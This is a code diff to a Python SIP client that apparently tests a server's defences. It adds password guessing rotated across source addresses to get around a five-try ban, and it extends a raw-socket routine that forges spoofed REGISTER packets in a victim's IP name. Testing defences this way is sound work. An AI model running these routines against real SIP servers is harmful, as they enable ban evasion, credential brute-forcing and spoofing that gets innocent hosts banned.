@@ -3,11 +3,16 @@
     python3 wire_client.py SERVER guess COUNT METHOD TRANSPORT [USER [PASSWORD]]
     python3 wire_client.py SERVER phone COUNT USER PASSWORD [PAUSE]
                               registers every PAUSE seconds, and each time tries the nonce of before first
-    python3 wire_client.py SERVER invented COUNT VICTIM [PASSWORD]
+    python3 wire_client.py SERVER invented COUNT VICTIM[:PORT] [PASSWORD]
                               forged packets, each with a nonce of its own invention
     python3 wire_client.py SERVER borrowed COUNT VICTIM          forged packets, each with a nonce that was sent to us
+    python3 wire_client.py SERVER own|rotating|shared|spoilt ROUNDS ADDRESS...
+                              guesses from these addresses, a round at a time: each with a nonce of its own invention, from one
+                              address or from all in turn; with nonces that the second one fetches; with nonces that both fetch
+                              at once, in one call
 
-Prints the last status of each guess, or how many packets it has forged.
+SERVER@ADDRESS:PORT speaks from there. Prints the last status of each guess, or how many packets it has forged, or how many
+guesses the server has judged.
 """
 
 from __future__ import annotations
@@ -24,6 +29,10 @@ import time
 
 PORTS = {"udp": 5060, "tcp": 5060, "tls": 5061, "ws": 8088}
 WAIT = 4.0
+SOURCE = None
+"""Address and port to speak from, where they are said."""
+SOON = 0.3
+"""Seconds for an answer, where there may be none; and between two guesses, in which a ban can be made."""
 
 
 def md5(text):
@@ -34,12 +43,14 @@ def md5(text):
 class Line:
     """A way to the server: send a message, receive the answer to it."""
 
-    def __init__(self, server, transport):
+    def __init__(self, server, transport, source=None):
         self.server, self.transport = server, transport
         family = socket.AF_INET6 if ":" in server else socket.AF_INET
         kind = socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM
         self.sock = socket.socket(family, kind)
         self.sock.settimeout(WAIT)
+        if source := source or SOURCE:
+            self.sock.bind(source)
         self.sock.connect((server, PORTS[transport]))
         if transport == "tls":
             context = ssl.create_default_context()
@@ -183,9 +194,65 @@ def phone(server, count, user, password, pause=0):
         print(answer.split()[1], flush=True)
 
 
+class Guesser:
+    """Guesses over UDP from one address. `judged`: how many of them the server has answered."""
+
+    def __init__(self, server, address):
+        self.line, self.judged = Line(server, "udp", (address, 0)), 0
+        self.line.sock.settimeout(SOON)
+
+    def ends(self, call=None):
+        """What a message is made of."""
+        return (self.line.here, self.line.port, "udp", "1000", call or secrets.token_hex(12))
+
+    def fetch(self, call=None):
+        """A challenge; "" without an answer."""
+        return self._asked(message("REGISTER", self.line.server, self.ends(call), 1))
+
+    def guess(self, challenge, nonce=None):
+        """One wrong password."""
+        if not challenge:
+            return
+        header = credentials("REGISTER", self.line.server, "1000", "wrong", challenge, nonce=nonce)
+        self.judged += bool(self._asked(message("REGISTER", self.line.server, self.ends(), 2, header)))
+
+    def _asked(self, request):
+        sequence = re.search(rb"Call-ID: (\S+)", request)[1].decode()
+        try:
+            self.line.send(request)
+            while sequence not in (answer := self.line._receive()) or answer.startswith("SIP/2.0 1"):
+                pass
+        except OSError:  # none in time, or a rejection
+            return ""
+        return answer
+
+
+def several(server, way, rounds, addresses):
+    """Guesses that are to get more tries than five of one address."""
+    guessers = [Guesser(server, address) for address in addresses]
+    first, second = guessers[0], guessers[min(1, len(guessers) - 1)]
+    known = first.fetch()
+    for _ in range(rounds):
+        if way in {"own", "rotating"}:
+            for one in guessers if way == "rotating" else [first]:
+                one.guess(known, secrets.token_hex(16))
+        elif way == "shared":
+            known = second.fetch() or known
+            first.guess(known)
+        else:
+            call = secrets.token_hex(12)
+            challenge = first.fetch(call)
+            second.fetch(call)
+            first.guess(challenge)
+        time.sleep(SOON)
+    print(sum(one.judged for one in guessers))
+
+
 def forge(server, count, victim, borrow, password="wrong"):
     """Packets in the victim's name: invented nonces, or such as were sent to us."""
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    victim, _, port = victim.partition(":")
+    port = int(port or 5060)
     line = Line(server, "udp")
     for number in range(count):
         call = secrets.token_hex(12)
@@ -193,8 +260,8 @@ def forge(server, count, victim, borrow, password="wrong"):
             challenge = line.exchange(message("REGISTER", server, (line.here, line.port, "udp", "1000", call), 1))
         nonce = None if borrow else secrets.token_hex(16)
         header = credentials("REGISTER", server, "1000", password, challenge, nonce=nonce)
-        payload = message("REGISTER", server, (victim, 5060, "udp", "1000", call), 2, header)
-        datagram = struct.pack(">HHHH", 5060, 5060, 8 + len(payload), 0) + payload
+        payload = message("REGISTER", server, (victim, port, "udp", "1000", call), 2, header)
+        datagram = struct.pack(">HHHH", port, 5060, 8 + len(payload), 0) + payload
         addresses = socket.inet_aton(victim) + socket.inet_aton(server)
         head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(datagram), number + 1, 0, 64, 17, 0) + addresses
         raw.sendto(head + datagram, (server, 0))
@@ -204,6 +271,11 @@ def forge(server, count, victim, borrow, password="wrong"):
 
 def main(server, action, count, *rest):
     """The command line that the module's docstring describes."""
+    global SOURCE  # noqa: PLW0603 - of this process
+    server, _, source = server.partition("@")
+    if source:
+        address, _, port = source.rpartition(":")
+        SOURCE = address, int(port)
     if action == "guess":
         method, transport, *who = rest
         user, password = (*who, *("1000", "wrong")[len(who) :])
@@ -211,6 +283,8 @@ def main(server, action, count, *rest):
             print(guess(server, method, transport, user, password)[0], flush=True)
     elif action == "phone":
         phone(server, int(count), *rest)
+    elif action in {"own", "rotating", "shared", "spoilt"}:
+        several(server, action, int(count), rest)
     else:
         forge(server, int(count), rest[0], action == "borrowed", *rest[1:])
 
